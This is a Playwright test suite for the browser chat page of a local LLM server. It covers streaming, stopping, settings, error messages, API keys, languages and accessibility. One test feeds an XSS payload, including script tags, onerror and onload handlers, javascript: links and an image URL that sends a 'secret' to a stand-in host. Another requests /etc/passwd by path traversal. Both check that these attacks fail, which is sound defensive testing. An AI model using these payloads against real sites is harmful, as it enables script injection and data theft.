"""The page in a real browser: Chromium, driven by Playwright, against `premise serve`.

A tiny random model answers where it matters that something streams. What a server says only on a bad
day (429, 503, a broken connection) and what a model would have to be told to write (Markdown, attacks)
is answered by the browser's own request interception.
"""

import gzip
import json
import os
import pathlib
import re
import shutil
import time

import pytest

import tiny_model
from serving import Server, keys

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))),
                os.environ.get("CHROMIUM"))
AXE = ROOT / "build/page-tests/web/node_modules/axe-core/axe.min.js"
CHAT = "**/v1/chat/completions"
MODELS = "**/v1/models"

pytestmark = pytest.mark.skipif(CHROMIUM is None,
                                reason="no Chromium on this machine: the page is not tested")


@pytest.fixture(scope="module")
def browser():
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as playwright:
        # In a container and for root there is no sandbox to be had; the pages are our own.
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    path = tmp_path_factory.mktemp("model") / "tiny.gguf"
    path.write_bytes(tiny_model.model_bytes())
    return path


@pytest.fixture(scope="module")
def server(tiny, tmp_path_factory):
    server = Server(tmp_path_factory.mktemp("home"), tiny, "--context", 65536, "--threads", 1)
    assert server.port, server.said
    yield server
    assert server.stop()[0] == 0


@pytest.fixture
def open_page(browser):
    """Opens pages; when the test ends, none of them may have complained."""
    contexts, complaints = [], []

    def complain(message):
        # A status that a test asked for is no complaint of the page.
        if message.type in ("error", "warning") and "Failed to load resource" not in message.text:
            complaints.append(message.text)

    def open_page(server, **options):
        context = browser.new_context(**{"viewport": {"width": 1280, "height": 800},
                                         "locale": "en-US", **options})
        contexts.append(context)
        context.set_default_timeout(10_000)
        page = context.new_page()
        page.on("console", complain)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.add_init_script("window.violations = []; document.addEventListener("
                             "'securitypolicyviolation', e => violations.push(e.violatedDirective))")
        page.goto(f"http://127.0.0.1:{server.port}/")
        return page

    yield open_page
    violations = [each for context in contexts for page in context.pages
                  for each in page.evaluate("window.violations")]
    for context in contexts:
        context.close()
    assert complaints == []
    assert violations == []


def field(page):
    return page.get_by_role("textbox", name="Message")


def ask(page, text):
    field(page).fill(text)
    # Nothing can be sent before the page knows which model to ask.
    page.locator("form.composer button.primary:enabled").wait_for()
    field(page).press("Enter")


def computes(server, requests):
    """The server soon says that it computes so many; it counts at the end of a step."""
    for _ in range(100):
        if server.metric("premise_requests_running") == requests:
            return
        time.sleep(0.05)
    assert server.metric("premise_requests_running") == requests


def set_longest(page, tokens):
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Longest answer").fill(str(tokens))
    close_settings(page)


def close_settings(page):
    page.keyboard.press("Escape")
    page.get_by_role("dialog").wait_for(state="detached")


def answer(page):
    return page.locator(".answer").last


def never_ends(page):
    """The next answers go on until they are stopped: the tiny model may well end after a word."""
    set_longest(page, 60_000)
    page.route(CHAT, lambda route: route.continue_(
        post_data={**route.request.post_data_json, "ignore_eos": True}))


def ended(page):
    page.get_by_role("button", name="Regenerate").wait_for()
    return answer(page).inner_text()


def stream(*texts, finish="stop", end="data: [DONE]\n\n"):
    """A recorded answer of the API in these pieces."""
    def chunk(delta, reason=None):
        return "data: " + json.dumps({"choices": [{"index": 0, "delta": delta,
                                                   "finish_reason": reason}]}) + "\n\n"
    body = "".join(chunk({"content": text}) for text in texts) + chunk({}, finish)
    usage = {"choices": [], "usage": {"prompt_tokens": 5, "completion_tokens": len(texts)}}
    return {"content_type": "text/event-stream",
            "body": body + f"data: {json.dumps(usage)}\n\n" + end}


def refusal(status, code, message="said so", **headers):
    return {"status": status, "content_type": "application/json",
            "headers": {name.replace("_", "-"): value for name, value in headers.items()},
            "body": json.dumps({"error": {"message": message, "code": code}})}


def answers(page, *replies):
    """The next chats are answered so, and what was asked is kept."""
    asked, left = [], list(replies)

    def handle(route):
        asked.append(route.request.post_data_json)
        route.fulfill(**left.pop(0))

    page.route(CHAT, handle)
    return asked


# What it is for


def test_an_answer_streams_and_says_how_fast_it_was(server, open_page):
    page = open_page(server)
    page.get_by_role("heading", name="Ask ").wait_for()
    page.route(CHAT, lambda route: route.continue_(
        post_data={**route.request.post_data_json, "ignore_eos": True}))
    set_longest(page, 400)
    ask(page, "hello")
    said = ended(page)
    assert re.search(r"First token after \d+\.\d\d s", said), said
    assert re.search(r"[\d,.]+ tokens/s", said), said
    assert "400 tokens" in said, said


def test_stop_ends_the_request_on_the_server_too(server, open_page):
    page = open_page(server)
    never_ends(page)
    ask(page, "hello")
    page.get_by_role("button", name="Stop").wait_for()
    page.locator(".answer .markdown").wait_for()
    computes(server, 1)
    page.get_by_role("button", name="Stop").click()
    assert "Stopped" in ended(page)
    computes(server, 0)


def test_the_last_answer_is_made_anew_and_the_last_question_edited(server, open_page):
    page = open_page(server)
    asked = answers(page, stream("one"), stream("two"), stream("three"), stream("four"))
    ask(page, "first")
    ended(page)
    page.get_by_role("button", name="Regenerate").click()
    page.get_by_text("two").wait_for()
    ask(page, "second")
    page.get_by_text("three").wait_for()
    page.get_by_role("button", name="Edit your last message").click()
    page.get_by_role("textbox", name="Edit your last message").fill("other")
    page.get_by_role("button", name="Send again").click()
    page.get_by_text("four").wait_for()
    assert [[message["content"] for message in each["messages"]] for each in asked] == [
        ["first"], ["first"], ["first", "two", "second"], ["first", "two", "other"]]
    assert page.get_by_text("three").count() == 0


def test_settings_reach_the_server_and_a_wrong_one_does_not(server, open_page):
    page = open_page(server)
    asked = answers(page, stream("one"))
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("System prompt").fill("Be brief.")
    page.get_by_label("Temperature").fill("0.2")
    page.get_by_label("Seed").fill("seven")
    page.get_by_text("must be a whole number").wait_for()
    close_settings(page)
    ask(page, "hello")
    page.get_by_role("dialog").wait_for()  # sent nothing, and shows why
    assert asked == []
    page.get_by_label("Seed").fill("7")
    close_settings(page)
    field(page).press("Enter")
    ended(page)
    assert asked[0]["messages"][0] == {"role": "system", "content": "Be brief."}
    assert (asked[0]["temperature"], asked[0]["seed"], asked[0]["max_tokens"]) == (0.2, 7, 1024)
    assert "top_p" not in asked[0]


def test_settings_filled_in_before_the_page_is_drawn_again_are_all_kept(server, open_page):
    page = open_page(server)
    asked = answers(page, stream("one"))
    page.get_by_role("button", name="Settings").click()
    page.evaluate("""() => {
        const fill = (field, text) => {
            field.value = text;
            field.dispatchEvent(new InputEvent("input", { bubbles: true }));
        };
        const numbers = document.querySelectorAll("dialog .number-field input");
        fill(document.querySelector("dialog textarea"), "Be brief.");
        fill(numbers[0], "0.2");
        fill(numbers[1], "0.9");
    }""")
    close_settings(page)
    ask(page, "hello")
    ended(page)
    assert asked[0]["messages"][0] == {"role": "system", "content": "Be brief."}
    assert (asked[0]["temperature"], asked[0]["top_p"]) == (0.2, 0.9)


def test_a_conversation_outlives_a_reload_but_not_its_clearing(server, open_page):
    page = open_page(server)
    answers(page, stream("remembered"))
    ask(page, "hello")
    ended(page)
    page.reload()
    page.get_by_text("remembered").wait_for()
    page.get_by_role("button", name="New conversation", exact=True).click()
    page.get_by_role("heading", name="Ask ").wait_for()
    page.reload()
    page.get_by_role("heading", name="Ask ").wait_for()
    assert page.get_by_text("remembered").count() == 0


# What a model writes


MARKDOWN = """# Title

A [link](https://example.com/) and `code`.

```python
def f(x):
    return "a"
```

| a | b |
|---|--:|
| 1 | 2 |
"""


def test_markdown_is_rendered_and_code_can_be_copied(server, open_page):
    page = open_page(server, permissions=["clipboard-read", "clipboard-write"])
    answers(page, stream(*re.findall(".{1,3}", MARKDOWN, re.S)))
    ask(page, "hello")
    ended(page)
    page.get_by_role("heading", name="Title").wait_for()
    assert page.get_by_role("link", name="link").get_attribute("rel").startswith("noopener")
    assert page.locator("pre .hljs-keyword").first.inner_text() == "def"
    assert page.locator("td").last.evaluate("e => getComputedStyle(e).textAlign") == "right"
    page.get_by_role("button", name="Copy code").click()
    page.locator(".code-head").get_by_text("Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == 'def f(x):\n    return "a"\n'


def test_an_attack_in_an_answer_neither_runs_nor_loads(server, open_page):
    page = open_page(server)
    attack = ("<script>window.hit = 1</script><img src=x onerror='window.hit = 1'>\n\n"
              "![x](http://127.0.0.1:9/steal?q=secret) [y](javascript:window.hit=1)\n\n"
              "<svg onload='window.hit = 1'></svg><style>body{display:none}</style>\n\n"
              "```\"onmouseover=\"window.hit=1\n<iframe src='javascript:window.hit=1'>\n```\n\nend")
    elsewhere = []
    page.on("request", lambda request: elsewhere.append(request.url)
            if f":{server.port}/" not in request.url else None)
    answers(page, stream(attack))
    ask(page, "hello")
    assert "end" in ended(page)
    for element in page.locator(".markdown *").all():
        element.dispatch_event("mouseover")
    assert page.evaluate("window.hit") is None
    assert page.locator(":is(script, img, svg, iframe, style):below(.question)"
                        ).locator("xpath=ancestor::*[@class='markdown']").count() == 0
    assert elsewhere == []


# What goes wrong


WRONG = [
    (refusal(400, "context_length_exceeded", "is 256 tokens"), "too long for this model", "is 256"),
    (refusal(400, "invalid_value", "bad field"), "did not accept the request", "bad field"),
    (refusal(401, "expired_api_key"), "needs an API key", None),
    (refusal(403, "missing_scope"), "may not do that", "said so"),
    (refusal(404, "model_not_found"), "does not serve this model", "said so"),
    (refusal(413, "bad_http"), "larger than the server takes", None),
    (refusal(500, "generation_failed"), "error of its own", "said so"),
    (refusal(503, "queue_full", Retry_After="1"), "no room at the moment", None),
    ({"status": 502, "body": "<html>proxy</html>"}, "error of its own", None),
    ({"status": 200, "body": "data: <html>\n\n"}, "not one of Premise's", None),
    (stream("half", end=""), "connection broke", None),
    (stream("half", end='data: {"error":{"message":"it broke"}}\n\n'), "could not finish", "it broke"),
]


def test_what_goes_wrong_is_said_in_a_sentence(server, open_page):
    page = open_page(server)
    answers(page, *[reply for reply, _, _ in WRONG])
    for _, says, detail in WRONG:
        ask(page, "hello")
        alert = page.get_by_role("alert")
        alert.get_by_text(says).wait_for()
        if detail:
            assert f"The server says: {detail}" in alert.inner_text(), says
        page.get_by_role("button", name="New conversation", exact=True).click()
        alert.wait_for(state="detached")


def test_a_limit_counts_down_until_it_may_be_tried_again(server, open_page):
    page = open_page(server)
    answers(page, refusal(429, "rate_limit_exceeded", Retry_After="2"), stream("at last"))
    ask(page, "hello")
    waiting = page.get_by_role("button", name=re.compile("Try again in [12] s"))
    waiting.wait_for()
    assert waiting.is_disabled()
    page.get_by_role("button", name="Try again", exact=True).click()
    assert "at last" in ended(page)


def test_a_server_that_is_gone_is_said_and_found_again(server, open_page):
    page = open_page(server)
    page.route(CHAT, lambda route: route.abort("connectionrefused"))
    ask(page, "hello")
    page.get_by_role("alert").get_by_text("does not answer").wait_for()
    page.unroute(CHAT)
    answers(page, stream("back"))
    page.get_by_role("button", name="Try again").click()
    assert "back" in ended(page)


# Keys


def test_a_key_is_asked_for_checked_and_kept_where_it_was_said(tiny, tmp_path, open_page):
    (tmp_path / "premise.toml").write_text(
        f'[auth]\nrequired = true\n[[model]]\nname = "tiny"\npath = "{tiny}"\ncontext = 256\n')
    secret = json.loads(keys(tmp_path, "create", "--name", "alice", "--json").stdout)["key"]
    server = Server(tmp_path, "--config", tmp_path / "premise.toml")
    try:
        page = open_page(server)
        page.get_by_text("This server needs an API key").wait_for()
        page.keyboard.type("sk-wrong")  # the focus is there already
        page.get_by_role("button", name="Use this key").click()
        page.get_by_text("does not know this API key").wait_for()
        page.get_by_label("API key").fill(secret)
        page.get_by_role("button", name="Use this key").click()
        page.get_by_role("heading", name="Ask tiny").wait_for()
        assert page.evaluate("[sessionStorage, localStorage].map(s => s.getItem('premise.key'))"
                             ) == [json.dumps(secret), None]
        set_longest(page, 4)
        ask(page, "hello")
        ended(page)
        page.get_by_role("button", name="Settings").click()
        page.get_by_label("Remember the key").check()
        page.get_by_text("stored in this browser, unencrypted").wait_for()
        page.get_by_role("button", name="Use this key").click()
        page.get_by_text("answers with this key").wait_for()
        assert page.evaluate("[sessionStorage, localStorage].map(s => s.getItem('premise.key'))"
                             ) == [None, json.dumps(secret)]
        page.get_by_role("button", name="Remove the key").click()
        page.get_by_role("dialog").get_by_text("This server needs an API key").wait_for()
        assert page.evaluate("localStorage.getItem('premise.key')") is None
    finally:
        assert server.stop()[0] == 0


# How it is used


def test_it_speaks_the_language_of_the_browser_and_the_one_that_is_chosen(server, open_page):
    page = open_page(server, locale="zh-CN")
    page.get_by_role("button", name="设置").wait_for()
    assert page.evaluate("document.documentElement.lang") == "zh-CN"
    answers(page, refusal(503, "queue_full"))
    page.get_by_role("textbox", name="消息").fill("你好")
    page.keyboard.press("Enter")
    page.get_by_role("alert").get_by_text("服务器目前没有空余容量").wait_for()
    page.get_by_role("button", name="Switch to English").click()
    page.get_by_role("alert").get_by_text("no room at the moment").wait_for()
    page.reload()
    page.get_by_role("button", name="Settings").wait_for()
    assert page.evaluate("document.documentElement.lang") == "en"


def test_dark_follows_the_system_until_it_is_chosen(server, open_page):
    page = open_page(server, color_scheme="dark")
    background = "getComputedStyle(document.body).backgroundColor"
    page.get_by_role("button", name="Switch to light").wait_for()
    dark = page.evaluate(background)
    page.get_by_role("button", name="Switch to light").click()
    page.get_by_role("button", name="Switch to dark").wait_for()
    light = page.evaluate(background)
    assert (dark, light) == ("rgb(20, 24, 29)", "rgb(255, 255, 255)")
    page.reload()
    page.get_by_role("button", name="Switch to dark").wait_for()
    assert page.evaluate(background) == light


def test_everything_can_be_done_from_the_keyboard(server, open_page):
    page = open_page(server)
    focused = "document.activeElement.getAttribute('aria-label') || document.activeElement.textContent"

    def tab_to(name, keys_max=30, key="Tab"):
        for _ in range(keys_max):
            page.keyboard.press(key)
            if name in (page.evaluate(focused) or ""):
                shown = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
                assert shown != "none", f"{name}: nobody can see where the focus is"
                return
        raise AssertionError(f"{name} cannot be reached")

    answers(page, stream("one"), stream("two"), stream("three"), stream("four"))
    page.get_by_role("heading", name="Ask ").wait_for()
    assert page.evaluate(focused) == "Message"  # one can begin to write at once
    page.keyboard.type("first\nline")  # Enter sends
    ended(page)
    page.keyboard.press("Shift+Enter")
    assert field(page).input_value() == "line\n"
    tab_to("Regenerate", key="Shift+Tab")
    page.keyboard.press("Enter")
    page.get_by_text("two").wait_for()
    tab_to("Edit your last message", key="Shift+Tab")
    page.keyboard.press("Enter")
    page.get_by_role("textbox", name="Edit your last message").wait_for()
    page.keyboard.press("Escape")
    tab_to("Settings", key="Shift+Tab")
    page.keyboard.press("Enter")
    page.get_by_role("dialog").wait_for()
    tab_to("Close")
    page.keyboard.press("Enter")
    page.get_by_role("dialog").wait_for(state="detached")
    assert page.evaluate(focused) == "Settings"  # the focus is back where it came from
    tab_to("Switch to dark", key="Shift+Tab")
    page.keyboard.press("Space")
    page.get_by_role("button", name="Switch to light").wait_for()


def test_escape_stops_an_answer(server, open_page):
    page = open_page(server)
    never_ends(page)
    ask(page, "hello")
    page.locator(".answer .markdown").wait_for()
    page.keyboard.press("Escape")
    assert "Stopped" in ended(page)


def test_leaving_in_the_middle_of_an_answer_keeps_what_was_written(server, open_page):
    page = open_page(server)
    never_ends(page)
    ask(page, "hello")
    page.locator(".answer .markdown").wait_for()
    page.reload()
    page.locator(".answer .markdown").wait_for()
    page.get_by_role("button", name="Regenerate").wait_for()


def test_a_new_key_lets_a_refused_answer_be_tried_again(server, open_page):
    page = open_page(server)
    asked = answers(page, refusal(401, "invalid_api_key"), stream("at last"))
    ask(page, "hello")
    page.get_by_role("button", name="Enter a key").click()
    page.get_by_label("API key").fill("sk-new")
    page.get_by_role("button", name="Use this key").click()
    page.get_by_text("answers with this key").wait_for()
    close_settings(page)
    page.get_by_role("button", name="Try again").click()
    assert "at last" in ended(page)
    assert len(asked) == 2


def test_enter_that_ends_a_chinese_word_does_not_send(server, open_page):
    page = open_page(server)
    asked = answers(page, stream("one"))
    field(page).fill("你好")
    field(page).dispatch_event("keydown", {"key": "Enter", "isComposing": True})
    page.wait_for_timeout(50)
    assert asked == [] and field(page).input_value() == "你好"


def test_nothing_is_cut_off_at_any_width(server, open_page):
    page = open_page(server)
    long = "x" * 300
    answers(page, stream(f"{long}\n\n```\n{long}\n```\n\n| {'a | ' * 30}\n|{'---|' * 30}\n"))
    ask(page, long)
    ended(page)
    page.get_by_role("button", name="Settings").click()
    page.get_by_role("dialog").wait_for()
    for width in (1280, 640, 360):
        page.set_viewport_size({"width": width, "height": 700})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        for part in (".log", "dialog", "header"):
            wider = page.locator(part).evaluate("e => e.scrollWidth - e.clientWidth")
            assert wider <= 0, (part, width)


def test_it_reads_along_until_one_scrolls_up(server, open_page):
    page = open_page(server, viewport={"width": 800, "height": 400})
    answers(page, stream("\n\n".join(["word"] * 80)), stream("last"))
    ask(page, "hello")
    ended(page)
    left = "e => e.scrollHeight - e.scrollTop - e.clientHeight"
    assert page.locator(".log").evaluate(left) < 64
    page.locator(".log").evaluate("e => e.scrollTo(0, 0)")
    page.get_by_role("button", name="To the latest text").click()
    page.wait_for_timeout(50)
    assert page.locator(".log").evaluate(left) < 64


@pytest.mark.skipif(not AXE.exists(), reason="axe-core is not there: make test installs it")
def test_axe_finds_nothing_to_object_to(server, open_page):
    page = open_page(server)
    answers(page, stream(MARKDOWN), refusal(400, "invalid_value"))
    axe = AXE.read_text()

    page.evaluate(f"() => {{ {axe} }}")

    def check(what):
        for scheme in ("light", "dark"):
            page.emulate_media(color_scheme=scheme)
            found = page.evaluate(
                "axe.run().then(r => r.violations.map(v => [v.id, v.nodes[0].html]))")
            assert found == [], f"{what}, {scheme}"

    page.get_by_role("heading", name="Ask ").wait_for()
    check("the empty page")
    ask(page, "hello")
    ended(page)
    check("a conversation")
    ask(page, "again")
    page.get_by_role("alert").wait_for()
    check("a problem")
    page.get_by_role("button", name="Settings").first.click()
    page.get_by_role("dialog").wait_for()
    check("the settings")


# What is served


def test_the_page_loads_nothing_from_elsewhere(server, browser):
    context = browser.new_context()
    page = context.new_page()
    urls = []
    page.on("request", lambda request: urls.append(request.url))
    page.goto(f"http://127.0.0.1:{server.port}/")
    page.get_by_role("heading", name="Ask ").wait_for()
    context.close()
    assert len(urls) >= 4
    assert all(url.startswith(f"http://127.0.0.1:{server.port}/") for url in urls), urls


def test_its_files_are_compressed_and_kept(server):
    status, headers, body = server.ask("GET", "/")
    assert status == 200 and b"<!doctype html>" in body
    headers = {name.lower(): value for name, value in headers.items()}
    assert headers["cache-control"] == "no-cache"
    assert server.ask("GET", "/", If_None_Match=headers["etag"])[0] == 304
    script = re.search(rb'src="(/assets/[^"]+\.js)"', body)[1].decode()
    status, headers, plain = server.ask("GET", script)
    headers = {name.lower(): value for name, value in headers.items()}
    assert status == 200 and "immutable" in headers["cache-control"]
    _, _, compressed = server.ask("GET", script, Accept_Encoding="gzip")
    assert gzip.decompress(compressed) == plain
    assert len(compressed) < 120_000  # the whole program of the page


def test_the_page_itself_needs_no_key_and_no_foreign_host(tiny, tmp_path):
    (tmp_path / "premise.toml").write_text(
        f'[auth]\nrequired = true\n[[model]]\nname = "tiny"\npath = "{tiny}"\ncontext = 256\n')
    server = Server(tmp_path, "--config", tmp_path / "premise.toml")
    try:
        assert server.ask("GET", "/")[0] == 200
        assert server.ask("HEAD", "/")[2] == b""
        assert server.ask("GET", "/", Host="evil.example")[0] == 403
        assert server.ask("POST", "/")[0] in (404, 405)
        assert server.ask("GET", "/assets/../../etc/passwd")[0] == 404
    finally:
        assert server.stop()[0] == 0
